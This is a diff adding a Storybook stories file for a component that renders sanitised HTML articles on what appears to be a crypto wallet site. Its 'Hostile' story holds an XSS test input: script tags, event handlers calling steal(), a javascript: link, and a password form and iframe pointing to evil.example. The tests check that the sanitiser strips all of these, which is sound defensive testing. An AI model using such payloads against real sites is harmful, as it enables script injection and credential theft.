@@ -1,0 +1,57 @@
+import type { Meta, StoryObj } from '@storybook/react-vite';
+import { expect } from 'storybook/test';
+import { Prose } from '#design-system/prose';
+
+const article = `
+  <p>This is a sample of what an operator would write here. It claims nothing.</p>
+  <h2>How a deposit is credited</h2>
+  <p>A deposit passes <strong>three steps</strong>. Each one is shown with its time in <a href="/wallet/up/record">your records</a>.</p>
+  <ol><li>Received</li><li>In review</li><li>Credited, or returned with a reason</li></ol>
+  <h3>What it costs</h3>
+  <table><thead><tr><th>Currency</th><th>Network</th><th>Fee</th></tr></thead>
+  <tbody><tr><td>BTC</td><td>Bitcoin</td><td>0.000100</td></tr><tr><td>USDT</td><td>Tron</td><td>1.000000</td></tr></tbody></table>
+  <blockquote>Withdrawals cannot be undone.</blockquote>
+  <ul><li>Read the address aloud.</li><li>Send a small amount first.</li></ul>
+  <hr><p>Written on 21 November 2026.</p>`;
+
+/** Written content of the server. The only place that sets HTML, and only after it was sanitised. */
+const meta = {
+  component: Prose,
+  args: { html: article, loadingLabel: 'Loading the article' },
+} satisfies Meta<typeof Prose>;
+
+export default meta;
+type Story = StoryObj<typeof meta>;
+
+export const Playground: Story = {
+  async play({ canvas }) {
+    await expect(await canvas.findByRole('heading', { level: 2, name: 'How a deposit is credited' })).toBeVisible();
+    await expect(canvas.getByRole('link', { name: 'your records' })).toHaveAttribute('href', '/wallet/up/record');
+  },
+};
+
+/** Nothing that acts, styles or collects comes through. */
+export const Hostile: Story = {
+  args: {
+    html: `<p style="position:fixed" onclick="steal()" id="main" class="x">Kept</p><script>steal()</script>
+      <style>p{display:none}</style><form action="https://evil.example"><input name="password"></form>
+      <a href="javascript:steal()">script</a> <a href="https://example.org/terms">outside</a>
+      <iframe src="https://evil.example"></iframe><img src="x.invalid:" onerror="steal()" alt="">`,
+  },
+  parameters: { picture: false },
+  async play({ canvas, canvasElement }) {
+    const kept = await canvas.findByText('Kept');
+    await expect([...kept.attributes].map(({ name }) => name)).toEqual([]);
+    await expect(canvasElement.querySelector('script, form, input, iframe')).toBeNull();
+    await expect(canvas.getByText('script')).not.toHaveAttribute('href');
+    await expect(canvas.getByRole('link', { name: 'outside' })).toHaveAttribute('rel', 'noopener noreferrer');
+    await expect(canvasElement.querySelector('img')).not.toHaveAttribute('onerror');
+  },
+};
+
+export const Narrow320: Story = {
+  globals: { viewport: { value: 'narrow' } },
+  async play({ canvas }) {
+    await canvas.findByRole('table');
+  },
+};
